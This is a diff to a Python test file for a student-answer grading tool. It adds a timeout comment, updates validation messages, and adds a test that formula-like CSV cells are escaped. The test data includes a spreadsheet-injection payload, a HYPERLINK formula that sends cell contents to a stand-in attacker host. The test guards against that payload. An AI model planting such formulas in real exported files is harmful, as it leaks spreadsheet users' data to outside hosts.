@@ -227,6 +227,8 @@ def test_grading_stops_a_check_past_the_time_limit(monkeypatch) -> None:
     text = HEADER + "ada,2b.i,a1,\nada,2b.ii,0,\nbob,1a,w/lambda,\n"
     start = time.monotonic()
     graded = G.grade(G.read_submissions(text.encode(), "c.csv"), jobs=1, limit=1.0)
+    # The slow check is stopped after its 1 s limit, not after its 30 s sleep; 20 s is loose on
+    # purpose (the pool's fork and the two other checks on a loaded CI machine).
     assert time.monotonic() - start < 20
     assert [g.verdict for g in graded.rows] == ["CANNOT CHECK", "PROVED", "REFUTED"]
     assert graded.rows[0].feedback == "no verdict within 1 s; the check was stopped"
@@ -276,6 +278,27 @@ def test_grading_writes_every_output_and_summary_groups_mistakes(capsys, tmp_pat
     assert "Points: 1 of 13." in ada and "- **1a** `w/(2 lambda)`: PROVED" in ada
     assert "- diagnosis: Σ⁻¹ in place of Σ" in ada and "- counterexample: at " in ada
     assert "## Not answered" in ada
+
+
+def test_grading_csv_cells_that_look_like_formulas_are_quoted_jsonl_verbatim(
+        capsys, tmp_path) -> None:
+    answers = ["-w/(2 lambda)", '=HYPERLINK("http://evil.example/?"&A1)', "+w/(2 lambda)",
+               "@SUM(A1)", "w/(2 lambda)"]
+    source = write(tmp_path / "class.csv", "student,id,answer\n" + "".join(
+        f'"=1+2",1a,"{a.replace(chr(34), 2 * chr(34))}"\n' for a in answers))
+    out = tmp_path / "out"
+    status, _, err = grade_cli(capsys, str(source), "--out", str(out), "--jobs", "1")
+    assert status == 0, err
+    rows = read_csv(out / "grades.csv")
+    assert [r["answer"] for r in rows] == ["'" + a for a in answers[:4]] + [answers[4]]
+    assert {r["student"] for r in rows} == {"'=1+2"}
+    for row in rows:  # nothing a spreadsheet would run, in any column
+        assert not any(v.startswith(outputs.FORMULA_STARTS) for v in row.values()), row
+    assert rows[0]["verdict"] == "REFUTED" and rows[4]["verdict"] == "PROVED"
+    records = [json.loads(x) for x in (out / "grades.jsonl").read_text("utf-8").splitlines()]
+    assert [(r["student"], r["answer"]) for r in records] == [("=1+2", a) for a in answers]
+    assert [outputs.cell(t) for t in ("\tw", "\rw", "w-1", "'w")] == ["'\tw", "'\rw", "w-1",
+                                                                        "'w"]
 
 
 def test_grading_failure_mid_way_leaves_the_previous_output_untouched(
@@ -393,7 +416,8 @@ def test_grading_gradescope_results_json(capsys, tmp_path) -> None:
 
 @pytest.mark.parametrize(("argv", "phrase"), [
     (["--jobs", "0"], "--jobs must be an integer ≥ 1"),
-    (["--timeout", "nan"], "--timeout must be a finite number > 0"),
+    (["--timeout", "nan"], "--timeout must be a number > 0 and ≤ 3600, got 'nan'"),
+    (["--timeout", "1e10"], "--timeout must be a number > 0 and ≤ 3600, got '1e10'"),
     (["--bogus"], "unrecognized arguments: --bogus"),
 ])
 def test_grading_usage_errors_exit_2(capsys, tmp_path, argv, phrase) -> None:
